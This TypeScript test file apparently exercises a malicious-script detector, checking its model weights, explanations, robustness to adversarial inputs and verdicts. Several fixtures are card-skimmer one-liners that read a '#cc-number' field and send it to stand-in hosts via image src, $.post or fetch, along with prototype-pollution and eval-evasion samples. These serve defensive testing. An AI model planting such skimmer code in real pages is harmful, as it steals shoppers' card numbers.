import { readFileSync, statSync } from 'node:fs'
import { factors } from '@tillwatch/messages/judgments/en'
import { atDepth } from '@tillwatch/testbed/depth'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { explain, features, judgeScript, type Model, scriptVerdicts, subjectOf, vectorOf } from '#detection/index.ts'

const file = new URL('../../src/detection/weights.json', import.meta.url)
const model = JSON.parse(readFileSync(file, 'utf8')) as Model

describe('the weights', () => {
  it('are at most 2 MB', () => expect(statSync(file).size).toBeLessThanOrEqual(2_000_000))

  it('match the computed feature vector', () => {
    expect(model.features).toEqual(features.map(({ name }) => name))
    expect(new Set(model.features).size).toBe(model.features.length)
    expect(Object.keys(factors)).toEqual(model.features)
  })

  it('contain trees in which every path ends in a leaf', () => {
    for (const { feature, left } of model.trees) {
      feature.forEach((asked, node) => {
        if (asked < 0) return
        expect(left[node]).toBeGreaterThan(node)
        expect((left[node] ?? 0) + 1).toBeLessThan(feature.length)
      })
    }
  })
})

const texts = [
  `document.querySelector('#cc-number').onchange=function(){new Image().src='https://a.stranger.example/?'+this.value}`,
  `window.dataLayer=window.dataLayer||[];dataLayer.push({event:'x'})`,
  'this is no program at all (',
  '',
]

describe('an explanation', () => {
  it.each(texts)('adds up to the log-odds of the probability: %s', (text) => {
    const { chance, bias, contributions } = explain(model, vectorOf(subjectOf(text)))
    const sum = contributions.reduce((total, one) => total + one, bias)
    expect(sum).toBeCloseTo(Math.log(chance / (1 - chance)), 6)
  })
})

const check = (text: string) => {
  const judged = judgeScript(text)
  expect(scriptVerdicts).toContain(judged.verdict)
  expect(judged.score).toBeGreaterThanOrEqual(0)
  expect(judged.score).toBeLessThanOrEqual(1)
  return judged
}

describe('a judgement', () => {
  it('is given for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => void check(text)),
      { numRuns: atDepth(20, 60) },
    )
  })

  it('is given for any text made of code', () => {
    const piece = fc.constantFrom(
      '(',
      ')',
      '{',
      '}',
      'eval',
      'function a(',
      'document.',
      '"\\x61',
      "atob('",
      '=>',
      '__proto__',
      '`${',
      '/*',
      '[',
      ';',
      'fetch(',
      '\n',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => void check(pieces.join(''))),
      { numRuns: atDepth(20, 60) },
    )
  })

  it('is the same each time', () => {
    for (const text of texts) expect(judgeScript(text)).toEqual(judgeScript(text))
  })

  it.each([
    ['deep nesting', `${'['.repeat(50_000)}${']'.repeat(50_000)}`],
    ['deep calls', `${'a('.repeat(30_000)}${')'.repeat(30_000)}`],
    ['one long line of a million characters', `var a="${'x'.repeat(1_000_000)}"`],
    ['a pattern that explodes', `/(a+)+$/.test("${'a'.repeat(40)}!")`],
    ['names of prototypes', '({}).__proto__.polluted=1;Object.prototype.x=1;var o={};o["__proto__"]["y"]=2;constructor.prototype.z=3'],
    ['bytes that are no UTF-8', Buffer.from([0xff, 0xfe, 0x00, 0xc3, 0x28, 0x80]).toString('utf8').repeat(200)],
    ['an endless loop', 'for(;;){}'],
    ['a text that doubles itself', 'var a="x";while(true)a+=a'],
    ['many quotes', `${'"'.repeat(20_001)}`],
    ['many opened comments', '/*'.repeat(50_000)],
    ['endless digits', '1,'.repeat(200_000)],
    ['endless escapes', '\\x41'.repeat(100_000)],
  ])('is given for %s, and nothing leaks into the global objects', (_, text) => {
    check(text)
    expect('polluted' in {}).toBe(false)
  })

  it('says that a file beyond the limit was not examined completely', () => {
    const judged = check(`var a=1;${' '.repeat(8_100_000)}`)
    expect(judged.ended).toBe(false)
  })

  const thief = `document.querySelector('#cc-number').onchange=function(){new Image().src='https://a.stranger.example/?'+this.value}`
  const filler = `\n'${'x'.repeat(500_000)}';`.repeat(17)
  it.each([
    ['at its beginning, before blanks', thief + ' '.repeat(8_100_000)],
    ['at its beginning', thief + filler],
    ['at its end', `${filler}\n${thief}\n`],
    ['in its last line, after one that does not end', `${filler}\nvar a = (\n${thief}`],
  ])('finds a skimmer in a file beyond the limit %s', (_, text) => {
    const { verdict, reasons, ended } = check(text)
    expect([verdict, ended]).toEqual(['malicious', false])
    const [place] = reasons[0]?.places ?? []
    expect(text.slice(place?.start, place?.end)).toContain('.src=')
  })

  it.each([
    ['all that was read', 'document.title = 1', []],
    ['HTML without code', '<p>A page</p>', []],
    ['code that no parser takes', 'function (', [['not-parsed', null, null]]],
    ['a page with one script that no parser takes', '<script>a()</script><script>function (</script>', [['partly-parsed', null, null]]],
    ['a loop without an end', 'function f() {}; for (;;) {}', [['limit', 1, 1]]],
    ['a program without its end', "a(); if (b) { c('", [['cut-off', 16, 17]]],
    ['more than is looked at', `a();${' '.repeat(8_100_000)}`, [['too-long', 2_000_000, 8_100_004]]],
  ])('lists what is missing, and is benign only if nothing is: %s', (_, text, missing) => {
    const judged = check(text)
    expect(judged.missing.map(({ code, read, of }) => [code, read, of])).toEqual(missing)
    expect(judged.verdict).toBe(missing.length === 0 ? 'benign' : 'inconclusive')
  })

  it('keeps its verdict if something was found and something is missing', () => {
    const judged = check(`${thief}\nfor (;;) {}`)
    expect([judged.verdict, judged.missing.map(({ code }) => code)]).toEqual(['malicious', ['limit']])
  })

  it('is given for unparsable text, by its words', () => {
    const judged = check(`if if(/checkout/.test(location)){ $.post('https://x.stranger.example/gate.php', { cc: $('#cc_number').val(`)
    expect(judged.parsed).toBe('none')
  })

  it('names the versions of its rules and weights', () => {
    expect(judgeScript('')).toMatchObject({ rulesVersion: '8', modelVersion: model.version })
  })
})

describe('code that runs many texts before the one that steals', () => {
  const after = (count: number) =>
    `for (var i = 0; i < ${count}; i++) eval('var a' + i + ' = ' + i); eval("document.querySelector('#cc-number').onchange = function () { fetch('https://kept.example/', { method: 'POST', body: this.value }) }")`

  it('is found', () => expect(judgeScript(after(300)).verdict).toBe('malicious'))
  it('is inconclusive if the texts are too many to follow', () => expect(judgeScript(after(3_000)).verdict).toBe('inconclusive'))
})
